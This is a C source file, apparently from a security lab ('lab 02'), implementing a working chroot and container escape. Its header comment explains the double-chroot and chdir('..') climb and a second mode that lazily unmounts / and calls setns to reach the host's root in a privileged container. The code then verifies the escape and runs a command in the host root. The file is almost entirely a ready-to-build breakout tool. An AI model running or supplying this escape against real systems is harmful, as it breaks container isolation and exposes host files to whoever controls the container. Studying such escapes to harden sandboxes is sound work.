/* The classic chroot escape (lab 02).
 *
 * chroot(2) changes how one process resolves "/" — nothing more. The working directory is not
 * moved, so a process with CAP_SYS_CHROOT can chroot into a subdirectory while its working
 * directory stays *outside* the new root, and ".." from outside the root is never stopped:
 * it climbs to the real root of the mount namespace. chroot(".") there makes it the new "/".
 *
 * The second way (`--umount`, needs CAP_SYS_ADMIN: a --privileged container): when the rootfs
 * was only moved over / (`--no-pivot`), the host's root is still the mount namespace's root,
 * hidden under the rootfs. Detach the rootfs (umount -l /) and re-enter our own mount namespace
 * with setns(2), which resets root and working directory to the namespace's root: the host's.
 * After pivot_root there is nothing underneath: the old root was unmounted.
 *
 * Build: cc -static -O2 -o chroot-escape chroot-escape.c
 * Use:   chroot-escape [--umount] [command ...]     (default command: ls /)
 * Exit:  0 after running the command in the escaped root, 2 if still inside, 1 on an error.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <sys/mount.h>
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    struct stat before, after;
    if (stat("/", &before) != 0) { perror("stat /"); return 1; }
    if (argc > 1 && strcmp(argv[1], "--umount") == 0) {
        argc--, argv++;
        int ns = open("/proc/self/ns/mnt", O_RDONLY | O_CLOEXEC);
        if (ns < 0) { perror("open /proc/self/ns/mnt"); return 1; }
        if (umount2("/", MNT_DETACH) != 0) { perror("umount -l / (needs CAP_SYS_ADMIN)"); return 2; }
        if (setns(ns, CLONE_NEWNS) != 0) { perror("setns mnt (needs CAP_SYS_ADMIN)"); return 1; }
        goto done;
    }
    /* 1. a directory to chroot into; our working directory stays where it is (outside it) */
    if (mkdir(".escape", 0700) != 0 && errno != EEXIST) { perror("mkdir .escape"); return 1; }
    if (chroot(".escape") != 0) { perror("chroot .escape (needs CAP_SYS_CHROOT)"); return 1; }
    /* 2. climb: the kernel stops ".." only at the process's root, which is now below us */
    for (int i = 0; i < 256; i++)
        if (chdir("..") != 0) { perror("chdir .."); return 1; }
    /* 3. make wherever we ended up the root */
    if (chroot(".") != 0) { perror("chroot ."); return 1; }
done:
    if (stat("/", &after) != 0) { perror("stat /"); return 1; }
    if (before.st_dev == after.st_dev && before.st_ino == after.st_ino) {
        printf("chroot-escape: still in the same root (dev %lu ino %lu): no escape\n",
                (unsigned long)after.st_dev, (unsigned long)after.st_ino);
        return 2;
    }
    /* on stdout, flushed before the exec: it comes before the command's output, in order */
    printf("chroot-escape: left the container's root: / was dev %lu ino %lu, now dev %lu ino %lu\n",
            (unsigned long)before.st_dev, (unsigned long)before.st_ino,
            (unsigned long)after.st_dev, (unsigned long)after.st_ino);
    fflush(stdout);
    char *def[] = {"/bin/ls", "/", NULL};
    char **cmd = argc > 1 ? argv + 1 : def;
    execv(cmd[0], cmd);
    printf("chroot-escape: exec %s: %s\n", cmd[0], strerror(errno));  /* stdout: in order */
    return 1;
}
